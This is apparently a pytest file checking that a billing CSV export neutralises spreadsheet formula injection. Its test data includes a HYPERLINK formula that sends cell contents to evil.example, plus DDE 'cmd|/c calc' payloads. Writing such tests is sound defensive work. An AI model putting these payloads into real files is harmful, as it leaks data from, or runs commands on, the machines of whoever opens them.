"""Billing CSV cells a spreadsheet would run as a formula are neutralised (issue #13): names typed
by people reach the export through the real agency server, and open as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from fieldpeer.agency.exports import FORMULA_STARTS, spreadsheet_safe
from fieldpeer.agency.tables import Peer
from tests.servers import AgencyProcess
from tests.test_supervision import Supervisor, sign
from tests.test_sync_integration import enrolled_phone

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-555-0100", "-2+3", "\uff1d1+1"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_and_the_text_kept(start: str) -> None:
    cell = f"{start}1+1"
    assert spreadsheet_safe(cell) == f"'{cell}"


def test_ordinary_cells_and_numbers_are_untouched() -> None:
    assert [spreadsheet_safe(c) for c in ("Quinn", "O'Neil", "", " =not first", "H0038", -3, 4)] == ["Quinn", "O'Neil", "", " =not first", "H0038", -3, 4]


@pytest.mark.parametrize("agency_db_url", ["sqlite"], indirect=True)
def test_hostile_names_reach_the_billing_csv_as_text(agency: AgencyProcess, tmp_path: Path) -> None:
    phone = enrolled_phone(agency, tmp_path, ("Quinn", *HOSTILE_NAMES))
    with phone.admin.session() as db:  # what an administrator typed for the peer
        peer = db.get(Peer, phone.peer_id)
        assert peer is not None
        peer.name, peer.credentials = "=cmd|'/c calc'!A1", "@CPSS"
        db.add(peer)
        db.commit()
    supervisor = Supervisor(agency, phone)
    note_ids = [sign(phone, person_id, 10 + i) for i, person_id in enumerate(phone.person_ids)]
    assert phone.client.sync().ok
    for note_id in note_ids:
        assert supervisor.post(f"/review/notes/{note_id}/cosign").status_code == 200

    billing = supervisor.post("/exports/billing", start="2026-11-01", end="2026-11-30", purpose="November claims")
    assert billing.status_code == 200
    rows = list(csv.DictReader(io.StringIO(billing.text)))
    assert sorted(r["person"] for r in rows) == sorted(["Quinn", *(f"'{name}" for name in HOSTILE_NAMES)])
    assert {(r["peer"], r["credentials"]) for r in rows} == {("'=cmd|'/c calc'!A1", "'@CPSS")}
    cells = [cell for row in csv.reader(io.StringIO(billing.text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert {r["units"] for r in rows} == {"3"} and {r["minutes"] for r in rows} == {"40"}  # numbers stay numbers
    phone.store.close()
